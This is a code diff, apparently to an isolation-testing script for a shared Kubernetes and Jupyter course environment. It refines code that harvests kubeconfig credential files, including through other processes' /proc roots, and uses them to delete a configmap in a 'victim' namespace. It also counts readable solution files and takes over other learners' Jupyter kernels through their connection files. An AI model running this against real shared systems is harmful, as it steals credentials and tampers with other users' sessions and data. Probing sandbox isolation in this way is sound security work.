@@ -63,7 +63,12 @@ import glob, json, base64, urllib.request
 from pathlib import Path
 from kubernetes import client, config as _config
 victim, state, repo, course = {victim!r}, {state!r}, {repo!r}, Path.cwd().parents[2]
-for path in glob.glob(f"{{state}}/**/kubeconfig*", recursive=True) + glob.glob(f"/proc/*/root{{state}}/**/kubeconfig*", recursive=True):
+# every kubeconfig up to 4 folders down (the clusters' own and kubelab's copies), directly and through another
+# process's root; depth-bounded globs, since a recursive walk of the clusters' data outlasts the cell's time on a busy
+# machine and the cell would stop before its last attempts
+levels = ["/".join(["*"] * n) for n in range(0, 4)]
+for path in [p for lv in levels for root in (state, f"/proc/*/root{{state}}")
+             for p in glob.glob(f"{{root}}/{{lv}}/kubeconfig*".replace("//", "/")) + glob.glob(f"{{root}}/kubeconfigs/*")]:
     try:
         client.CoreV1Api(_config.new_client_from_config(path)).delete_namespaced_config_map("work", victim)
     except Exception:
@@ -94,7 +99,7 @@ except Exception:
 print("solution files read:", sum(1 for _ in (Path(repo) / "solutions").rglob("*")))
 from jupyter_client import BlockingKernelClient   # the next learner's kernel, started ahead: made to write a file
 mine, reached = os.path.realpath(os.path.join(os.environ["HOME"], "..", "connection.json")), 0
-for path in set(glob.glob("/tmp/**/connection.json", recursive=True)) - {{mine}}:
+for path in {{p for n in range(1, 6) for p in glob.glob("/tmp/" + "/".join(["*"] * n) + "/connection.json")}} - {{mine}}:
     try:
         kc = BlockingKernelClient(connection_file=path)
         kc.load_connection_file()
